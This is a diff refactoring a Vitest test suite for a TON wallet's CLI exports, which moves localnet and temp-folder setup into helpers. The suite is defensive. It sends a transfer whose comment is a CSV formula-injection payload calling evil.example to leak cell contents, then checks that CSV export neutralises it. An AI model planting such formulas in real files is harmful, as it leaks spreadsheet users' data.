@@ -1,15 +1,16 @@
 import { Address, internal } from '@ton/core';
 import { existsSync } from 'node:fs';
-import { mkdtemp, rm, writeFile } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
+import { writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { main as cli } from '../../electron/cli/main';
 import { MemoryVault } from '../../electron/services/vault';
 import { readCsv, readJsonl } from '../helpers/export-reference';
 import { localnetEnv, recordingIo } from '../helpers/cli-io';
-import { startLocalnet, type StartedLocalnet } from '../helpers/localnet';
+import { demoWallet } from '../helpers/localnet';
+import { localnetForSuite } from '../helpers/localnet-suite';
 import { signTransfer } from '../helpers/sign-transfer';
+import { tempDirForSuite } from '../helpers/temp-dir';
 
 /**
  * Exports of hostile on-chain text and careless destinations, through the CLI against the
@@ -19,25 +20,18 @@ import { signTransfer } from '../helpers/sign-transfer';
 
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
 
-interface DemoWalletDoc {
-  name: string;
-  address: string;
-  mnemonic: string;
-}
-
-let ln: StartedLocalnet;
-let dir: string;
-let wallets: Record<string, DemoWalletDoc>;
+const ln = localnetForSuite({ blockIntervalMs: 300 }, 300_000);
+const dir = tempDirForSuite('export-hostile-');
 
 const io = () => recordingIo({ env: localnetEnv(ln), vault: new MemoryVault() });
 
 const exportArgs = (format: string, out: string) => [
   '--user-data',
-  dir,
+  dir(),
   'export',
   'local',
   '--account',
-  wallets.alice!.address,
+  demoWallet(ln, 'alice').address,
   '--kind',
   'ton-transfers',
   '--format',
@@ -46,45 +40,32 @@ const exportArgs = (format: string, out: string) => [
   out,
 ];
 
-beforeAll(async () => {
-  ln = await startLocalnet({ blockIntervalMs: 300 });
-  wallets = Object.fromEntries((ln.accounts.wallets as DemoWalletDoc[]).map((w) => [w.name, w]));
-  dir = await mkdtemp(join(tmpdir(), 'export-hostile-'));
-}, 300_000);
-
-afterAll(async () => {
-  await ln?.close();
-  if (dir) await rm(dir, { recursive: true, force: true });
-});
-
 describe('a formula comment on chain', () => {
   it('is text in the CSV (prefixed with an apostrophe), exact in JSON Lines; amounts stay numbers', async () => {
-    const seqno = await ln.net.blockchain.runGetMethod(
-      Address.parse(wallets.alice!.address),
-      'seqno',
-    );
+    const alice = demoWallet(ln, 'alice');
+    const seqno = await ln.net.blockchain.runGetMethod(Address.parse(alice.address), 'seqno');
     const { boc } = await signTransfer({
-      mnemonic: wallets.alice!.mnemonic,
+      mnemonic: alice.mnemonic,
       version: 'v4R2',
       seqno: Number(seqno.stackReader.readBigNumber()),
       validUntil: Math.floor(Date.now() / 1000) + 600,
       messages: [
         internal({
-          to: Address.parse(wallets.bob!.address),
+          to: Address.parse(demoWallet(ln, 'bob').address),
           value: 100_000_000n,
           bounce: false,
           body: FORMULA,
         }),
       ],
     });
-    const bocFile = join(dir, 'formula.boc');
+    const bocFile = join(dir(), 'formula.boc');
     await writeFile(bocFile, boc);
     const sent = io();
-    expect(await cli(['--user-data', dir, 'send', 'local', '--boc', bocFile, '--yes'], sent)).toBe(
-      0,
-    );
+    expect(
+      await cli(['--user-data', dir(), 'send', 'local', '--boc', bocFile, '--yes'], sent),
+    ).toBe(0);
 
-    const csv = join(dir, 'alice.csv');
+    const csv = join(dir(), 'alice.csv');
     const run = io();
     expect(await cli(exportArgs('csv', csv), run), run.stderr.join('\n')).toBe(0);
     const rows = await readCsv(csv);
@@ -94,7 +75,7 @@ describe('a formula comment on chain', () => {
     expect(row?.amount).toMatch(/^-?\d+(\.\d+)?$/);
     expect(rows.every((r) => !/^[=+@\t\r]/.test(r.comment ?? ''))).toBe(true);
 
-    const jsonl = join(dir, 'alice.jsonl');
+    const jsonl = join(dir(), 'alice.jsonl');
     expect(await cli(exportArgs('jsonl', jsonl), io())).toBe(0);
     const exact = (await readJsonl(jsonl)).find((r) => r.comment?.includes('HYPERLINK'));
     expect(exact?.comment).toBe(FORMULA);
@@ -112,7 +93,7 @@ describe('export --out', () => {
   }, 60_000);
 
   it('does not create a missing parent folder; says which one is missing', async () => {
-    const missing = join(dir, 'no-such-folder');
+    const missing = join(dir(), 'no-such-folder');
     const run = io();
     const code = await cli(exportArgs('csv', join(missing, 'alice.csv')), run);
     expect(code).toBe(1);
